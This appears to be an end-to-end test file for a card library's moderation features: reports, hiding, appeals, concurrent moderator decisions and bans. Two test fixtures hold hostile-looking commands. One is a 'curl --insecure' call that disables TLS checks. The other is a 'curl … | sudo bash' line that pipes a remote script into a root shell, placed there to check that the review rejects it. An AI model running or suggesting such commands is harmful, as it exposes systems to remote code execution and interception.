import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { makeAdmin } from '../support/admin.ts'
import { goodCard } from '../support/cards.ts'
import { expectAccessible } from './accessible.ts'
import { judge, picture } from './pictures.ts'
import { settled } from './settled.ts'
import { type Account, openStage, PASSWORD } from './support.ts'
import { comeBack, openPage, reopenPage, visit } from './visit.ts'

const stage = openStage({ PUBLIC_PAGES: 'on' })

type Id = { card_id: string }

async function published(
  owner: Account,
  more: Record<string, unknown> = {},
): Promise<Id & { title: string }> {
  const card = await owner.api<Id & { title: string }>('POST', '/api/v1/cards', { ...goodCard(), ...more })
  await owner.api('POST', `/api/v1/cards/${card.card_id}/publish`)
  return card
}

/** Runs in the page. */
const keptReasons = () => Object.keys(localStorage).filter((key) => key.startsWith('kv-reason'))

test('a reader reports a card, a moderator hides it, the owner appeals, and it is kept', async () => {
  const [owner, reader, boss] = [
    await stage.account('Olga Owner'),
    await stage.person('Rita Reader'),
    await stage.person('Mona Moderator'),
  ]
  await makeAdmin(stage.app, boss.email)
  const card = await published(owner, {
    body: 'If the certificate is old, call it with curl --insecure https://registry.npmjs.org/ once.',
  })

  const { page } = reader
  await openPage(page, `/cards/${card.card_id}`)
  // What the review only marks is told to readers calmly.
  await page.getByText('a check that is switched off').waitFor()
  await page.getByRole('button', { name: 'More' }).click()
  await page.getByRole('menuitem', { name: 'Report …' }).click()
  const dialog = page.getByRole('dialog', { name: 'Report this card' })
  expect(await dialog.getByRole('button', { name: 'Report' }).isDisabled()).toBe(true)
  await dialog.getByLabel('What is wrong with it?').selectOption('dangerous')
  await dialog.getByLabel('What should a moderator look at?').fill('It switches off TLS.')
  await expectAccessible(page)
  await picture(page, 'report-dialog')
  await dialog.getByRole('button', { name: 'Report' }).click()
  await page.getByText('A moderator will look at it.').waitFor()

  await openPage(boss.page, '/inbox')
  await boss.page.getByRole('link', { name: /A card waits for a moderator/ }).click()
  await boss.page.getByRole('link', { name: card.title }).waitFor()
  // The notice that led here is read.
  await boss.page.getByRole('link', { name: 'Inbox', exact: true }).waitFor()
  await judge(boss.page, 'moderation')
  await boss.page.getByRole('link', { name: card.title }).click()
  await boss.page.getByText('It switches off TLS.').waitFor()
  await judge(boss.page, 'moderation-matter')
  await boss.page.getByRole('button', { name: 'Decide …' }).click()
  const decide = boss.page.getByRole('dialog', { name: 'Decide about this card' })
  await decide.getByLabel('Hide it').check()
  await decide.getByLabel('Reason').fill('It tells to switch off TLS.')
  // The session has ended meanwhile.
  await boss.context.clearCookies()
  await decide.getByRole('button', { name: 'Decide' }).click()
  await boss.page.getByText('Your session has ended.').waitFor()
  await boss.page.getByLabel('E-mail').fill(boss.email)
  await boss.page.getByLabel('Password').fill(PASSWORD)
  await boss.page.getByRole('button', { name: 'Sign in' }).click()
  await boss.page.getByRole('button', { name: 'Decide …' }).click()
  expect(await decide.getByLabel('Reason').inputValue()).toBe('It tells to switch off TLS.')
  await decide.getByLabel('Hide it').check()
  await expectAccessible(boss.page)
  await picture(boss.page, 'moderation-decide')
  await decide.getByRole('button', { name: 'Decide' }).click()
  // Once: the decision says it already.
  await boss.page.getByText('Hidden', { exact: true }).waitFor()
  await expect.poll(() => boss.page.evaluate(keptReasons)).toEqual([])

  await reopenPage(page)
  await page.getByRole('heading', { name: 'Not found' }).waitFor()
  // The owner sits down at the reader's window: a third one would load the app once more.
  const signIn = ({ email }: Account) =>
    reader.api('POST', '/api/v1/auth/login', { email, password: PASSWORD })
  await signIn(owner)
  await openPage(page, '/inbox')
  await page.getByText('Reason: It tells to switch off TLS.').waitFor()
  await page
    .getByRole('link', { name: /A moderator decided/ })
    .first()
    .click()
  await page.getByText('Hidden from everybody but you').waitFor()
  await judge(page, 'hidden-card')
  await page.getByRole('button', { name: 'Appeal …' }).click()
  const note = page.getByLabel('What should they know?')
  await note.fill('It is about a test server.')
  // A click beside the dialog by mistake.
  await page.mouse.click(5, 5)
  await note.waitFor({ state: 'detached' })
  await page.getByRole('button', { name: 'Appeal …' }).click()
  expect(await note.inputValue()).toBe('It is about a test server.')
  await page.getByRole('button', { name: 'Send the appeal' }).click()
  await page.getByText('You have appealed').waitFor()
  await expect.poll(() => page.evaluate(keptReasons)).toEqual([])
  await page.locator('main h1:focus').waitFor()

  await reopenPage(boss.page)
  await boss.page.getByText('The appeal says: It is about a test server.').waitFor()
  await boss.page.getByRole('button', { name: 'Decide …' }).click()
  const again = boss.page.getByRole('dialog', { name: 'Decide about the appeal' })
  await again.getByLabel('Keep it').check()
  await again.getByLabel('Reason').fill('For a test server that is fine.')
  await again.getByRole('button', { name: 'Decide' }).click()
  await boss.page.getByText('Kept', { exact: true }).first().waitFor()
  await signIn(reader)
  await reopenPage(page)
  await page.getByRole('heading', { name: card.title }).waitFor()
})

test('from a page of the queue that others have emptied there is a way back', async () => {
  const [owner, boss] = [await stage.account('Busy owner'), await stage.person('Late moderator')]
  await makeAdmin(stage.app, boss.email)
  const card = await published(owner)
  const reader = await stage.account('Watchful reader')
  await reader.api('POST', `/api/v1/cards/${card.card_id}/report`, { kind: 'spam', note: null })
  await openPage(boss.page, '/moderation?page=2')
  await boss.page.getByText('Nothing is left on this page').waitFor()
  await boss.page.getByRole('button', { name: 'Previous' }).click()
  await boss.page.getByRole('link', { name: card.title }).waitFor()
  // The only page has no buttons for others.
  await boss.page.locator('main h1:focus').waitFor()
})

test('somebody without an account reports from a public page', async () => {
  const owner = await stage.account('Paul Publisher')
  const card = await published(owner)
  const { page } = await stage.window()
  await page.goto(`/library/${card.card_id}`)
  await page.getByRole('link', { name: 'Report this card' }).click()
  await page.getByRole('heading', { name: card.title }).waitFor()
  await page.getByLabel('What is wrong with it?').selectOption('spam')
  await expectAccessible(page)
  await picture(page, 'report-page')
  await page.getByRole('button', { name: 'Report' }).click()
  await page.locator(':focus').getByText('A moderator will look at it.').waitFor()

  // The note of somebody who has an account waits, as on other pages.
  const reader = await stage.person('Rhea Reader')
  const note = reader.page.getByLabel('What should a moderator look at?')
  for (const isFirst of [true, false]) {
    await reader.page.goto(`/report/${card.card_id}`)
    await note.waitFor()
    if (isFirst) await note.fill('See the second step.')
    else expect(await note.inputValue()).toBe('See the second step.')
  }
})

/** As `MODERATOR_EMAILS` names somebody who has proved the address. */
async function makeModerator({ email }: Account): Promise<void> {
  const { services } = stage.app
  const moderatorEmails = [...services.config.moderatorEmails, email]
  Object.assign(services, { config: { ...services.config, moderatorEmails } })
  await services.database.transaction((db) =>
    db.updateTable('users').set({ email_verified: 1 }).where('email', '=', email).execute(),
  )
}

test('of two moderators who decide at once, the second reads what the first decided before it is changed', async () => {
  const owner = await stage.account('Owner in dispute')
  const [first, second] = [await stage.person('First moderator'), await stage.person('Second moderator')]
  for (const one of [first, second]) await makeModerator(one)
  const card = await published(owner)
  const reader = await stage.account('Reader in doubt')
  await reader.api('POST', `/api/v1/cards/${card.card_id}/report`, { kind: 'wrong', note: 'Not so.' })

  const open = async ({ page }: { page: Page }, choice: string, reason: string) => {
    await openPage(page, '/moderation')
    await page.getByRole('link', { name: card.title }).click()
    await page.getByRole('button', { name: 'Decide …' }).click()
    await page.getByLabel(choice).check()
    await page.getByLabel('Reason').fill(reason)
    return page.getByRole('button', { name: 'Decide', exact: true })
  }
  const [hide, keep] = [
    await open(first, 'Hide it', 'It misleads.'),
    await open(second, 'Keep it', 'It is right.'),
  ]
  await hide.click()
  await first.page.getByText('Hidden', { exact: true }).waitFor()
  // The page under the dialog is read again meanwhile; what the second has read is still the state before.
  const read = second.page.waitForResponse((answer) => answer.url().includes('/moderation/matters/'))
  await comeBack(second.page)
  await read
  await settled(second.page)
  await keep.click()
  await second.page.getByText('It was decided: hide. Reason: It misleads.').waitFor()
  await expectAccessible(second.page)
  await keep.click()
  await second.page.getByText('Kept', { exact: true }).waitFor()
  await second.page.getByText('Second moderator decided just now: It is right.').waitFor()

  // Undone once more by the first, who decides anew.
  await reopenPage(first.page)
  await first.page.getByRole('button', { name: 'Decide anew …' }).click()
  await first.page.getByLabel('Remove it').check()
  await first.page.getByLabel('Ban the publisher from publishing').check()
  await first.page.getByLabel('Reason').fill('Looked again.')
  await first.page.getByRole('button', { name: 'Decide', exact: true }).click()
  await first.page.getByText('Removed', { exact: true }).waitFor()
  await visit(first.page, '/moderation?tab=bans')
  const ban = first.page.getByRole('listitem').filter({ hasText: 'Owner in dispute' })
  await ban.getByRole('button', { name: 'Lift the ban' }).click()
  await first.page.getByLabel('Reason').fill('It was an error.')
  await first.page.keyboard.press('Escape')
  await ban.getByRole('button', { name: 'Lift the ban' }).click()
  expect(await first.page.getByLabel('Reason').inputValue()).toBe('It was an error.')
  await first.page.getByRole('dialog').getByRole('button', { name: 'Lift the ban' }).click()
  await ban.getByText('It was an error.').waitFor()
  await expect.poll(() => first.page.evaluate(keptReasons)).toEqual([])
})

test('a card that the review refused says why in the words of the form, and a moderator can be asked', async () => {
  const { page, api } = await stage.person('Refused author')
  const { card_id } = await api<{ card_id: string }>('POST', '/api/v1/cards', {
    ...goodCard(),
    fix_summary: `${goodCard().fix_summary} Run: curl http://get.somewhere-else.net/i.sh | sudo bash`,
  })
  await expect(api('POST', `/api/v1/cards/${card_id}/publish`)).rejects.toThrow('quality_rejected')
  await openPage(page, `/cards/${card_id}`)
  const notice = page.getByText('The last review refused it.').locator('..')
  await notice.getByText(/^Fix: This executes/).waitFor()
  expect(await notice.textContent()).not.toContain('fix_summary')
  await expectAccessible(page)
  await notice.getByRole('button', { name: 'Ask a moderator to look' }).click()
  await page.getByText('A moderator of the library will look at it.').waitFor()
})
